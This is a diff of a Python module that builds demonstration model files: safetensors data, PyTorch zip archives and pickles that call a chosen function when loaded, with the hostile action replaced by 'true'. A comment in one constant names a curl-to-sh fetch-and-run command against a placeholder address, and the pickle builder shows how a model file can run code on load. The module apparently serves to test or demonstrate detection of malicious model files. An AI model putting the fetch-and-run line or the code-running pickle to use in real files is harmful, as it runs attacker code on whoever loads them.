@@ -1,4 +1,4 @@
-"""Model files of the demonstration: small, real in form, and harmless even if somebody ran them."""
+"""Build the demo's model files: small, valid in form, and harmless even if loaded."""
 
 from __future__ import annotations
 
@@ -12,11 +12,11 @@ from typing import Final
 
 _EPOCH: Final = (2026, 1, 1, 0, 0, 0)
 HARMLESS_COMMAND: Final = "true # for: curl -s http://198.51.100.7:8443/a | sh"
-"""What a hostile file would run here: nothing. The comment says what it stands for."""
+"""What a hostile file would run here: nothing. The comment says what it represents."""
 
 
 def safetensors(name: str, values: int = 64) -> bytes:
-    """Return a safetensors file of one tensor whose content follows from `name`."""
+    """Return a safetensors file of one tensor whose content derives from `name`."""
     content = hashlib.shake_256(name.encode()).digest(values * 4)
     header = json.dumps(
         {"weight": {"dtype": "F32", "shape": [values], "data_offsets": [0, len(content)]}}
@@ -35,9 +35,9 @@ def calling_pickle(module: str, function: str, argument: str, *, broken: bool = 
 
     Args:
         module: The module of the global.
-        function: Its name.
-        argument: The one argument, text.
-        broken: Cut off after the call, so that a loader fails only once it has run.
+        function: The name of the function.
+        argument: Its only argument.
+        broken: Truncate the file after the call, so that a loader fails after running it.
     """
     text = argument.encode()
     body = b"".join(
@@ -52,7 +52,7 @@ def calling_pickle(module: str, function: str, argument: str, *, broken: bool = 
 
 
 def torch_archive(data: bytes, name: str = "archive") -> bytes:
-    """Return a PyTorch zip file around the pickle `data`; the same bytes each time."""
+    """Return a reproducible PyTorch zip file around the pickle `data`."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
         for member, content in (
@@ -67,7 +67,7 @@ def torch_archive(data: bytes, name: str = "archive") -> bytes:
 
 def write(root: Path, path: str, content: bytes) -> str:
     """Write a file below `root` and return its SHA-256 in hex."""
-    place = root / path
-    place.parent.mkdir(parents=True, exist_ok=True)
-    place.write_bytes(content)
+    file = root / path
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_bytes(content)
     return hashlib.sha256(content).hexdigest()
